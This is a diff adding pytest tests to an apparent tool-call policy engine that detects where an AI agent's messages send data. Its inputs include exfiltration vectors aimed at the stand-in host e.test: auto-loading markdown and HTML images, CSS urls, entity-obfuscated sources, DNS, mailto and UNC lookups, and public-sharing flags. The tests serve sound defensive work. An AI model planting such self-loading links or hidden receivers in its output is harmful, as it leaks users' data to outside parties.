@@ -410,3 +410,91 @@ def test_a_long_list_in_a_guarded_argument_is_bounded_work(tmp_path: Path) -> No
     assert DestinationStatus.MALFORMED in standings(classify(policy, call))
     assert lines(800) <= 2.1 * lines(400) + 500
     assert lines(20_000) <= 1.5 * lines(10_000)
+
+
+def _outside(found: ClassifiedCall) -> set[str]:
+    return {t.destination.canonical for t in found.targets if t.status is not _INTERNAL}
+
+
+_INTERNAL = DestinationStatus.INTERNAL
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://e.test/?d=1)",
+        "![x][r]\n\n[r]: https://e.test/?d=1",
+        "<img src=//e.test/?d=1>",
+        "<p style='background: url(https://e.test/?d=1)'>",
+        "<img src='&#104;ttps://e.test/?d=1'>",
+    ],
+)
+def test_what_a_text_loads_by_itself_is_a_receiver(text: str, tmp_path: Path) -> None:
+    """Whoever reads it tells the host, without a click; a link does not."""
+    path = tmp_path / "policy.yaml"
+    path.write_text(POLICY.replace('body: ["$.body"]', 'guarded: ["$.body"]'), encoding="utf-8")
+    rule = "rules:\n  - {id: links, type: provenance, of: guarded, rungs: [tainted], effect: ask}"
+    path.write_text(path.read_text("utf-8").replace("rules:", rule), encoding="utf-8")
+    policy = load_policies([path])
+
+    def sent(body: str) -> ClassifiedCall:
+        call = {"to": "a@example.com", "body": f"Hello, {body}"}
+        return classify(policy, ToolCall("c", Identity("p", "s"), "send", call, "mcp", 0.0))
+
+    assert _outside(sent(f"\n{text}\n")) == {"https://e.test/?d=1"}
+    assert not _outside(sent("see [it](https://e.test/?d=1), <a href='https://e.test/'>it</a>"))
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        {"document": "anyone with the link"},
+        {"share": "Anyone"},
+        {"acl": "public-read"},
+        {"public": True},
+        {"options": {"is_private": False}},
+        {"who": [{"type": "anonymous"}]},
+    ],
+)
+def test_what_is_opened_to_everybody_has_another_receiver(judge: Any, more: Any) -> None:
+    """Beside the colleague whom it is shared with."""
+    assert _outside(judge("send", to="a@example.com", **more)) == {"everybody"}
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        {"public": False},
+        {"private": True},
+        {"title": "Public holidays"},
+        {"note": "for everyone who came"},
+        {"document": "Published minutes"},
+        {"bcc_list": []},
+        {"cc_names": ""},
+    ],
+)
+def test_words_about_the_public_open_nothing(judge: Any, more: Any) -> None:
+    """Nor does a switch that closes, or a field of receivers with nobody in it."""
+    assert not _outside(judge("send", to="a@example.com", **more))
+
+
+@pytest.mark.parametrize(
+    ("tool", "more", "receiver"),
+    [
+        ("send", {"bcc_list": "Robin Keller"}, "robin keller"),
+        ("send", {"options": {"ccTo": ["rk"]}}, "rk"),
+        ("send", {"webhook": "e.test/hook"}, "e.test/hook"),
+        ("read", {"url": "e.test/x"}, "e.test/x"),
+        ("read", {"id": "dns:a.e.test?type=TXT"}, "a.e.test"),
+        ("read", {"id": "mailto:drop@e.test?body=x"}, "drop@e.test"),
+        ("read", {"id": "\\\\?\\UNC\\e.test\\a\\b"}, "e.test"),
+        ("read", {"id": "e.test::module/x"}, "e.test"),
+    ],
+)
+def test_a_name_of_a_member_makes_it_stricter(
+    judge: Any, tool: str, more: Any, receiver: str
+) -> None:
+    """And what some program would look up, mail or mount is somebody."""
+    to = {"to": "a@example.com"} if tool == "send" else {}
+
+    assert receiver in _outside(judge(tool, **to, **more))
